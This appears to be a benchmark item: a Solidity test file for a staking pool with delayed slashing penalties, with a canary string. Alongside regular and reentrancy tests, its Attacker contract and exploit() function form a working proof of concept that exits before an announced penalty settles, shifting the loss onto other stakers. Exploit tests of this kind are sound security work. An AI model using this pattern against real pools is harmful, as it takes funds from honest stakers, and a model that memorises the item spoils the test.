// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.19;

// assay-canary-e9ae59cb-072e-4cad-af74-1a97da6b908a

import "./RelayStake.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Keeper {
    RelayStake internal pool;

    constructor(RelayStake pool_) {
        pool = pool_;
    }

    receive() external payable virtual {}

    function stake(uint256 amount) external {
        pool.stake{value: amount}();
    }

    function askExit(uint256 shares) public returns (uint256) {
        return pool.askExit(shares);
    }

    function recallExit(uint256 id) external {
        pool.recallExit(id);
    }
}

/// A keeper like the others who reads announcements.
/// Comes back while it is paid, and insists on being told off.
contract Impatient is Keeper {
    uint256 internal other;

    constructor(RelayStake pool_) Keeper(pool_) {}

    receive() external payable override {
        if (other == 0) return;
        (bool ok, bytes memory why) = address(pool).call(abi.encodeCall(pool.payExit, (other)));
        require(!ok && keccak256(why) == keccak256(abi.encodeWithSignature("Error(string)", "stake: entered")), "let through");
    }

    function plan(uint256 other_) external {
        other = other_;
    }
}

contract Attacker is Keeper {
    uint256 internal id;

    constructor(RelayStake pool_) Keeper(pool_) {}

    function ask() external {
        id = askExit(pool.sharesOf(address(this)));
    }

    function collect() external {
        pool.payExit(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    address payable private constant FUND = payable(address(0xF00D));

    PenaltyBoard public board;
    RelayStake public pool;
    Keeper public steady;
    Attacker public leaver;

    receive() external payable {}

    function setUp() public {
        vm.warp(START);
        board = new PenaltyBoard(address(this), FUND);
        pool = new RelayStake(board);
        board.bind(address(pool));
        steady = new Keeper(pool);
        leaver = new Attacker(pool);
        vm.deal(address(steady), 60 ether);
        vm.deal(address(leaver), 40 ether);
        steady.stake(60 ether);
        leaver.stake(40 ether);
        vm.deal(address(this), 100 ether);

        // A relay signed twice; the penalty becomes effective in two days.
        vm.warp(START + 30 days);
        board.announce(3_000);
    }

    function _near(uint256 a, uint256 b) internal pure returns (bool) {
        return a + 1e9 >= b && b + 1e9 >= a;
    }

    function test_Regular() public {
        uint256 shares = pool.sharesOf(address(steady));
        require(_near(pool.valueOf(shares), 60 ether), "value of the stake");

        // The penalty is taken when it is due, not before.
        pool.settlePenalty();
        require(pool.staked() == 100 ether, "not due");
        vm.warp(START + 32 days);
        pool.settlePenalty();
        require(pool.staked() == 70 ether && FUND.balance == 30 ether, "taken");
        require(_near(pool.valueOf(shares), 42 ether), "shared by all");
        pool.settlePenalty();
        require(pool.staked() == 70 ether, "taken once");

        // Rewards, an exit that is recalled, and one that is paid.
        pool.reward{value: 30 ether}();
        require(_near(pool.valueOf(shares), 60 ether), "rewarded");
        uint256 id = steady.askExit(shares);
        try steady.askExit(1) {
            revert("asked twice");
        } catch {}
        try pool.recallExit(id) {
            revert("recalled by a stranger");
        } catch {}
        steady.recallExit(id);
        require(pool.sharesOf(address(steady)) == shares, "shares are back");
        id = steady.askExit(shares / 2);
        (address keeper,, uint256 value,) = pool.exitInfo(id);
        require(keeper == address(steady) && _near(value, 30 ether), "exit noted");
        try pool.payExit(id) {
            revert("paid early");
        } catch {}
        vm.warp(START + 39 days);
        board.announce(100);
        try pool.payExit(id) {
            revert("paid while a penalty is announced");
        } catch {}
        board.withdraw();
        pool.payExit(id);
        require(_near(address(steady).balance, 30 ether), "paid");
        try pool.payExit(id) {
            revert("paid twice");
        } catch {}

        // A withdrawn announcement costs nobody anything; a newcomer pays the present price.
        board.announce(5_000);
        board.withdraw();
        vm.warp(START + 60 days);
        require(_near(pool.valueOf(pool.sharesOf(address(leaver))), 40 ether), "no penalty");
        uint256 got = pool.stake{value: 5 ether}();
        require(_near(pool.valueOf(got), 5 ether), "fair price");
        try pool.stake{value: 1}() {
            revert("staked next to nothing");
        } catch {}
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Exits of shares that there are, one payment at a time, to who takes it.
    function test_RefusesExits() public {
        uint256 all = pool.sharesOf(address(steady));
        refuses(address(steady), "stake: shares");
        pool.askExit(0);
        refuses(address(steady), "stake: shares");
        pool.askExit(all + 1);
        board.withdraw();
        Impatient pat = new Impatient(pool);
        vm.deal(address(pat), 10 ether);
        pat.stake(10 ether);
        uint256 half = pool.sharesOf(address(pat)) / 2;
        uint256 first = pat.askExit(half);
        uint256 second = pat.askExit(half);
        vm.deal(address(board), 1 ether);
        address rock = address(board);
        uint256 third = _stakeAndAsk(rock);
        vm.warp(block.timestamp + 7 days);
        pat.plan(second);
        pool.payExit(first);
        vm.expectRevert("stake: ether refused");
        pool.payExit(third);
    }

    function _stakeAndAsk(address who) private returns (uint256) {
        vm.prank(who);
        uint256 shares = pool.stake{value: 1 ether}();
        vm.prank(who);
        return pool.askExit(shares);
    }

    function exploit() public {
        leaver.ask();
        vm.warp(block.timestamp + 7 days);
        leaver.collect();
    }

    function test_Exploit() public {
        uint256 before = address(leaver).balance;
        exploit();
        require(address(leaver).balance >= before + 39.9 ether, "bore the penalty");
        require(pool.valueOf(pool.sharesOf(address(steady))) < 31 ether, "the other bears it all");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(leaver);
    }
}
